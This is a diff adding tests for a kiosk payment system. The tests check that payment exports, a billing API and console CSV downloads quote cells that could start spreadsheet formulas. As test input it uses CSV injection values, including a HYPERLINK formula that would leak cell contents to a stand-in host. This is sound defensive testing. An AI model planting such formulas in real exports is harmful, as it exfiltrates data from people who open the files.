@@ -6,11 +6,12 @@ audited. Screenshots go to $CONSOLE_SHOTS (or the test's folder)."""
 
 from __future__ import annotations
 
+import json
 import os
+import re
 import subprocess
 import sys
 from collections.abc import Iterator
-import json
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -340,3 +341,89 @@ def test_a_backlog_time_that_is_not_a_journal_time_is_ignored(office: HeadOffice
     other.reference()
     assert backlog_said(office.db) == (5, good)
     assert s.get(f"{office.url}/console/", timeout=30).status_code == 200
+
+
+def test_a_cell_that_could_start_a_formula_is_quoted_and_numbers_stay() -> None:
+    from sync.sheet import cell
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert cell(f"{start}1+2") == f"'{start}1+2"
+        assert cell(f"{start}1+2", number=True) == f"'{start}1+2"  # not a number: quoted too
+    assert cell("K-1") == "K-1" and cell(None) is None and cell(-1500) == -1500
+    assert cell("-12.50", number=True) == "-12.50" and cell("-12.50") == "'-12.50"
+    import csv
+    import io
+
+    from sync.sheet import write_csv
+
+    buf = io.StringIO()
+    write_csv(buf, ["txid", "amount"], [["\rK2", -1500], ['a,"b"', 7]], numbers=["amount"])
+    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [
+        ["txid", "amount"], ["'\rK2", "-1500"], ['a,"b"', "7"]
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
+def test_hostile_text_from_a_kiosk_starts_no_formula_in_any_csv(
+    office: HeadOffice, tmp_path: Path
+) -> None:
+    """A kiosk id, transaction id, key serial and contract account that a spreadsheet would
+    run as formulas reach the payments export (the admin tool's and the billing system's) and
+    the console's download quoted; the amounts stay numbers, a negative one too."""
+    from kiosk.domain.events import Kind, Record
+    from kiosk.ledger.journal import Journal
+    from sync.client import SyncClient
+    from sync.sheet import FORMULA_START
+
+    kiosk = '=HYPERLINK("http://x.example/?"&A1)'
+    token = office.admin("register", kiosk)
+    j = Journal(tmp_path / "journal.sqlite", kiosk)
+    tx, key, account = "+SUM(1,2)", "@K1", "-4711+1"
+    day1 = datetime(2026, 11, 21, 9, 0, tzinfo=UTC)
+    j.append([Record(Kind.TX_OPENED, tx, key, None, {"method": "card", "contract_account": account}),
+              Record(Kind.CARD_APPROVED, tx, key, Money(1500, "EUR"), {"receipt_no": 1}),
+              Record(Kind.TX_CLOSED, tx, key, None, {"outcome": "completed"})], day1)  # fmt: skip
+    j.append([Record(Kind.TX_OPENED, "\tT2", "\rK2", None, {"method": "cash"}),
+              Record(Kind.CASH_IN, "\tT2", "\rK2", Money(500, "EUR"), {"medium": "coin"}),
+              Record(Kind.TX_CLOSED, "\tT2", "\rK2", None, {"outcome": "completed"})],
+             day1)  # fmt: skip
+    # the next day the card payment is given back: that day's money is negative
+    j.append([Record(Kind.CARD_REVERSED, tx, key, Money(1500, "EUR"), {})],
+             day1 + timedelta(days=1))  # fmt: skip
+    j.append([Record(Kind.CASH_UNATTRIBUTED, None, None, Money(200, "EUR"), {"medium": "coin"})],
+             day1 + timedelta(days=1))  # fmt: skip
+    client = SyncClient(office.url, token, kiosk, timeout=(1.0, 5.0))
+    assert Syncer(j, client).round(day1).backlog == 0
+
+    def checked(text: str, numbers: set[str]) -> list[dict[str, str]]:
+        import csv
+        import io
+
+        rows = list(csv.DictReader(io.StringIO(text)))
+        assert rows
+        for row in rows:
+            for name, value in row.items():
+                if name in numbers:
+                    assert re.fullmatch(r"-?\d+", value), (name, value)
+                else:
+                    assert not value.startswith(FORMULA_START), (name, value)
+        return rows
+
+    days = ("--since", "2026-11-21", "--until", "2026-11-22")
+    amounts = {f"{a}_minor" for a in ("paid", "fee", "fee_net", "fee_vat", "debt", "credit")}
+    paid = checked(office.admin("export", "payments", *days), amounts)
+    assert {r["kiosk"] for r in paid} == {"'" + kiosk}
+    assert {r["txid"] for r in paid} >= {"'+SUM(1,2)", "'\tT2"}
+    assert {r["key"] for r in paid} >= {"'@K1", "'\rK2"}
+    assert "'-4711+1" in {r["contract_account"] for r in paid}
+    billing = office.admin("token", "billing", "--role", "billing")
+    got = requests.get(f"{office.url}/v1/billing/payments", timeout=30,
+                       params={"since": "2026-11-21", "until": "2026-11-22"},
+                       headers={"Authorization": f"Bearer {billing}"})  # fmt: skip
+    assert got.status_code == 200 and checked(got.text, amounts) == paid
+    s = console_session(office, "otto")
+    money = checked(s.get(f"{office.url}/console/reports.csv", timeout=30).text, {"amount_minor"})
+    assert ("2026-11-22", "'" + kiosk, "card", "-1500") in {
+        (r["day"], r["kiosk"], r["method"], r["amount_minor"]) for r in money
+    }
+    assert "'" + kiosk in office.admin("report")
